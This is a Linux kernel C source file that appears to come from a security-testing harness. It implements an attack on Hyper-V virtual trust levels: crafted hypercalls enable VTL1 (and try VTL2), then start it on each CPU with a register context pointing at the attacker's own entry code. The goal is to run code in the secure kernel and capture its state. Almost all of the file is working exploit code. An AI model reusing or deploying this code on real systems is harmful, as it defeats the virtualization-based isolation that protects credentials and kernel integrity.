// SPDX-License-Identifier: GPL-2.0-only
/* Runs the attacker's code in VTL1. Any kernel code may enable VTL1 while it is not enabled. */
#include <linux/cpumask.h>
#include <linux/mm.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/mshyperv.h>

#include "attack.h"

#define HVCALL_ENABLE_PARTITION_VTL 0x000d

/* attack_entry.S: entry of VTL1. It reads the input below and fills in the result. */
void attack_entry(void);
extern u64 attack_entry_hypercall_msr, attack_entry_return;
extern struct attack_captured attack_entry_captured;

static u8 stack[1024] __aligned(16);

static struct {
	u64 partition, partition_vtl2, enable, start;
	bool done, entered, other; /* other: VTL1 of another CPU could be enabled or started */
} tries;

u64 attack_own_rsp(void)
{
	return (u64)stack + sizeof(stack) - 16;
}

/* Fills in VTL0's context, but with RIP and RSP for attack_entry(). */
static void own_context(struct hv_init_vp_context *context)
{
	const struct hv_x64_segment_register data = {
		.limit = 0xffffffff, .selector = __KERNEL_DS, .attributes = 0xc093};

	memset(context, 0, sizeof(*context));
	context->rip = (u64)attack_entry;
	context->rsp = attack_own_rsp();
	context->rflags = X86_EFLAGS_FIXED;
	context->cs = data;
	context->cs.selector = __KERNEL_CS;
	context->cs.attributes = 0xa09b;
	context->ds = data;
	context->es = data;
	context->fs = data;
	context->gs = data;
	context->ss = data;
	context->tr.limit = 0x67;
	context->tr.selector = GDT_ENTRY_TSS * 8;
	context->tr.attributes = 0x8b;
	rdmsrl(MSR_EFER, context->efer);
	context->efer &= ~(u64)EFER_SVME;
	context->cr0 = read_cr0();
	context->cr3 = __read_cr3();
	context->cr4 = __read_cr4();
	rdmsrl(MSR_IA32_CR_PAT, context->msr_cr_pat);
}

static u64 enable_partition(u8 vtl)
{
	memset(attack_input, 0, 16);
	*(u64 *)attack_input = HV_PARTITION_ID_SELF;
	attack_input[8] = vtl;
	return attack_hypercall(HVCALL_ENABLE_PARTITION_VTL, 0);
}

/* HvCallEnableVpVtl and HvCallStartVirtualProcessor have the same input. */
static u64 start(u16 code, u32 vp)
{
	struct hv_enable_vp_vtl *input = (struct hv_enable_vp_vtl *)attack_input;

	memset(input, 0, sizeof(*input));
	input->partition_id = HV_PARTITION_ID_SELF;
	input->vp_index = vp;
	input->target_vtl.target_vtl = 1;
	own_context(&input->vp_context);
	return attack_hypercall(code, 0);
}

static void enter(void *call_stub)
{
	u64 control = 0;

	attack_entry_hypercall_msr = (u64)vmalloc_to_pfn(hv_hypercall_pg) << PAGE_SHIFT | 1;
	asm volatile(CALL_NOSPEC
		     : "+c"(control), ASM_CALL_CONSTRAINT
		     : THUNK_TARGET(call_stub)
		     : "rax", "rdx", "rdi", "memory", "cc");
}

const struct attack_captured *attack_take_over(void)
{
	void *call_stub = attack_vtl_call_stub();
	unsigned long flags;
	int cpu;
	u32 vp;

	if (!tries.done) {
		tries.done = true;
		attack_entry_return = (u64)attack_vtl_return_stub();
		local_irq_save(flags); /* stay on this CPU and its page tables */
		tries.partition = enable_partition(1);
		tries.enable = start(HVCALL_ENABLE_VP_VTL, HV_VP_INDEX_SELF);
		if (hv_result_success(tries.enable))
			enter(call_stub);
		tries.entered = attack_entry_captured.cr3;
		/* VTL2 would control VTL1. */
		if (!tries.entered)
			tries.partition_vtl2 = enable_partition(2);
		for_each_online_cpu(cpu)
		{
			if (tries.entered || cpu == smp_processor_id())
				continue;
			vp = hv_cpu_number_to_vp_number(cpu);
			tries.other |= hv_result_success(start(HVCALL_ENABLE_VP_VTL, vp));
			tries.start = start(HVCALL_START_VP, vp);
			tries.other |= hv_result_success(tries.start);
		}
		local_irq_restore(flags);
	}
	return tries.entered ? &attack_entry_captured : NULL;
}

/* Success without VTL1: the attacker's code ran in VTL1. */
bool attack_start(struct attack_report *report)
{
	const bool entered = attack_take_over(), several = num_online_cpus() > 1;

	if (entered)
		attack_report(report, "VTL1 was free: own code ran in it");
	else
		attack_report(report, "hypercalls: enabling VTL1 %s, here %s; VTL2 %s%s%s",
			      attack_status(tries.partition), attack_status(tries.enable),
			      attack_status(tries.partition_vtl2),
			      several ? "; starting another CPU " : "",
			      several ? attack_status(tries.start) : "");
	return entered || hv_result_success(tries.enable) ||
	       hv_result_success(tries.partition_vtl2) || tries.other;
}
